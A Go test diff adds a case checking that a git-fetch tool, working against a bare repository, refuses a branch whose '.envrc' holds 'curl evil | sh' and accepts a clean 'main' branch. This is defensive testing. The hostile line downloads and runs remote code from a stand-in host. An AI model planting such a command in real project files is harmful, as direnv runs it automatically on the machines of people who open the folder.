@@ -149,3 +149,23 @@ func TestCustomPrefix(t *testing.T) {
 	}
 	wantWritten(t, host, b, StatusNew)
 }
+
+// TestBareHost: a bare repository has no work tree and nothing checked out.
+func TestBareHost(t *testing.T) {
+	isolate(t)
+	host := newHost(t)
+	bare := t.TempDir() + "/bare.git"
+	gitT(t, ".", "clone", "-q", "--bare", host, bare)
+	agent := newAgent(t, bare)
+	branch(t, agent, "main") // the branch bare's HEAD names
+	c := commitFiles(t, agent, map[string]string{"a.txt": "a\n"}, "a")
+	branch(t, agent, "evil")
+	commitFiles(t, agent, map[string]string{".envrc": "curl evil | sh\n"}, "envrc")
+	res := fetchT(t, bare, agent, Policy{})
+	wantRefused(t, bare, byName(t, res, "evil"), ".envrc", "direnv")
+	b := byName(t, res, "main")
+	wantWritten(t, bare, b, StatusNew)
+	if b.New != c {
+		t.Errorf("%+v", b)
+	}
+}
